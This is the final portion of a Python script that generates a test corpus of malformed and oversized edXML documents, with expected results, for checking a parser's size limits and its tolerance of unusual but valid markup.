        c.add(f"zip-ok-{name}", document(atts=(Att(content=data, ctype="application/zip"),)),
              read(attachments=[expect]), attack="tolerance", about=about)


def limits_family(c: Corpus) -> None:
    big = bytes(range(256)) * 12
    c.add("limit-attachment-bytes", document(atts=(Att(content=big),)),
          read(attachments=[att_err("edxml.attachment.too_large")], subject=SUBJECT),
          attack="limits", limits={"max_attachment_bytes": 1000},
          about="a 3072-byte attachment under a 1000-byte attachment limit")
    c.add("limit-header-bytes", document(), refused("edxml.structure.too_large"), attack="limits",
          limits={"max_header_bytes": 300}, about="more header text than a 300-character limit")
    c.add("limit-package-bytes", document(atts=(Att(content=big),)),
          refused("edxml.structure.too_large"), attack="limits",
          limits={"max_package_bytes": 2048}, about="a package over a 2048-byte package limit")
    c.add("limit-header-text-in-unknown-elements",
          document(message_extra="<Ghi>" + "x" * 5000 + "</Ghi>"),
          read(warnings=["edxml.structure.unknown_element"]), attack="limits",
          limits={"max_header_bytes": 4000},
          about="text in unknown elements is not kept, so it costs no memory and does not count "
                "against the header limit")
    c.add("limit-header-text-in-known-elements",
          document(message_extra="<Content>" + "x" * 5000 + "</Content>"),
          refused("edxml.structure.too_large"), attack="limits",
          limits={"max_header_bytes": 4000},
          about="text the reader keeps counts against the header limit")


def tolerance_family(c: Corpus) -> None:
    attack = "tolerance"
    noisy = document(
        prolog="<!-- trước gốc -->\n<?xml-stylesheet href=\"x.xsl\"?>\n",
        header=edit(doc_header(), set={"Subject": "V/v <!-- chú thích -->triển khai<?pi?> liên "
                                                  "thông văn bản điện tử"}),
        message_extra="        <!-- giữa các phần tử --><?app data?>\n",
        envelope_extra="    <!-- c -->\n", epilog="<!-- sau gốc -->\n<?tail?>\n")
    c.add("odd-comments-and-pis-everywhere", noisy, read(subject=SUBJECT), attack=attack,
          about="comments and processing instructions before, inside and after everything")
    c.add("odd-cdata-subject", _at_subject(REF, "<![CDATA[V/v <báo cáo> & đề xuất]]>"),
          read(subject="V/v <báo cáo> & đề xuất"), attack=attack,
          about="Subject in a CDATA section")
    mixed = document(header=edit(doc_header(), drop=["Subject"]), message_extra=(
        f'        <z:Subject xmlns:z="{NS}">{SUBJECT}</z:Subject>\n'
        f'        <ApplicationType xmlns="{NS}">MCDT_DT</ApplicationType>\n'))
    c.add("odd-mixed-prefixes", mixed, read(subject=SUBJECT), attack=attack,
          about="the same namespace through edXML:, z: and the default namespace in one header")
    rebound = document(header=edit(doc_header(), drop=["From"]), message_extra=(
        f'        <edXML:From xmlns:edXML="{NS}" xmlns="urn:other"><edXML:OrganId>{FROM_ID}'
        '</edXML:OrganId></edXML:From>\n'))
    c.add("odd-prefix-redeclared", rebound, read(subject=SUBJECT, from_organ_id=FROM_ID),
          attack=attack, about="edXML: redeclared on an inner element, default namespace changed")
    reordered = edit(doc_header(), drop=["DocumentId", "ToPlaces"])
    reordered.insert(0, ["ToPlaces", [["Place", "Như trên"]]])
    reordered.append(["DocumentId", DOCUMENT_ID])
    c.add("odd-element-order", document(DIALECTS["bare"], header=reordered),
          read(subject=SUBJECT, document_id=DOCUMENT_ID), attack=attack,
          about=".NET-style order: ToPlaces first, DocumentId last")
    c.add("odd-unknown-edxml-element", document(message_extra="        <edXML:Extra>1</edXML:Extra>\n"),
          read(warnings=["edxml.structure.unknown_element"]), attack=attack,
          about="an unknown element in the edXML namespace is warned about")
    c.add("odd-foreign-namespace-element",
          document(message_extra='        <v:Extra xmlns:v="urn:vendor">1</v:Extra>\n'),
          read(), attack=attack, about="an element in a vendor namespace is ignored silently")
    c.add("odd-crlf-line-ends", document().replace("\n", "\r\n"), read(subject=SUBJECT),
          attack=attack, about="CRLF line ends throughout")
    c.add("odd-dotnet-trace-attributes", document(DIALECTS["bare"], trace=trace_list()).replace(
        "<TraceHeaderList>", '<TraceHeaderList id="t1" version="1.0" mustUnderstand="1" actor="x">'),
        read(), attack=attack, about="the .NET dialect's TraceHeaderList attributes")
    c.add("odd-placeholder-signature-edxml-ns", document(header_extra=(
        "      <Signature><SignedInfo><SignatureMethod Algorithm=\"x\"/></SignedInfo>"
        "<SignatureValue>AAAA</SignatureValue></Signature>\n")), read(), attack=attack,
        about="the reference libraries' placeholder Signature in the edXML namespace")
    c.add("odd-empty-digital-signature",
          document(DIALECTS["bare"], header_extra="      <DigitalSignature/>\n"),
          read(), attack=attack, about="the .NET dialect's empty DigitalSignature")
    nfd = "V/v triển khai liên thông văn bản điện tử"
    c.add("odd-nfd-subject", _at_subject(REF, unicodedata.normalize("NFD", nfd)),
          read(subject=unicodedata.normalize("NFC", nfd)), attack=attack,
          about="decomposed (NFD) Vietnamese is read as NFC")
    c.add("odd-duplicate-subject",
          document(message_extra="        <edXML:Subject>Thứ hai</edXML:Subject>\n"),
          refused("edxml.ambiguous"), attack=attack,
          about="Subject twice: two readers could take two different ones, so it is refused")
    c.add("odd-attachments-inside-envelope", document(
        atts=(), envelope_extra=f"    <AttachmentEncoded xmlns=\"{NS}\">" + _attachment(Att(), REF)
        + "</AttachmentEncoded>\n"),
        read(attachments=[], warnings=[]), attack=attack,
        about="AttachmentEncoded inside the envelope is not where attachments live: none are read")
    c.add("odd-xml-lang-and-ids", document(DIALECTS["alt"]).replace(
        "<q:Subject>", '<q:Subject xml:lang="vi" id="s1">'), read(subject=SUBJECT), attack=attack,
        about="attributes on header elements are ignored")
    c.add("odd-status-package-bare", status(DIALECTS["bare"]), read("status", status_code="03"),
          attack=attack, about="an unprefixed status package")


FAMILIES = (dtd_family, entity_family, xinclude_family, nesting_family, count_family,
            attribute_family, token_family, encoding_family, legacy_family, control_family,
            bidi_family, base64_family, content_id_family, missing_family, root_family,
            status_code_family, date_family, organ_id_family, document_id_family, zip_family,
            limits_family, tolerance_family)


def build() -> Corpus:
    corpus = Corpus()
    for family in FAMILIES:
        family(corpus)
    return corpus


def expected_json(corpus: Corpus) -> bytes:
    data = {name: case.expect for name, case in sorted(corpus.cases.items())}
    return (json.dumps(data, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode("utf-8")


def files(corpus: Corpus) -> Iterator[tuple[str, bytes]]:
    """Every file of the corpus, expected.json included, as (name, bytes)."""
    for name, case in sorted(corpus.cases.items()):
        yield name, case.data
    yield EXPECTED_NAME, expected_json(corpus)


def write_corpus(directory: Path) -> int:
    """Write the corpus into `directory`, removing files of cases that no longer exist."""
    directory.mkdir(parents=True, exist_ok=True)
    corpus = build()
    wanted = dict(files(corpus))
    for old in directory.iterdir():
        if old.is_file() and old.name not in wanted:
            old.unlink()
    for name, data in wanted.items():
        (directory / name).write_bytes(data)
    return len(corpus.cases)


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    directory = Path(args[0]) if args else CORPUS_DIR
    count = write_corpus(directory)
    print(f"wrote {count} cases and {EXPECTED_NAME} to {directory}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
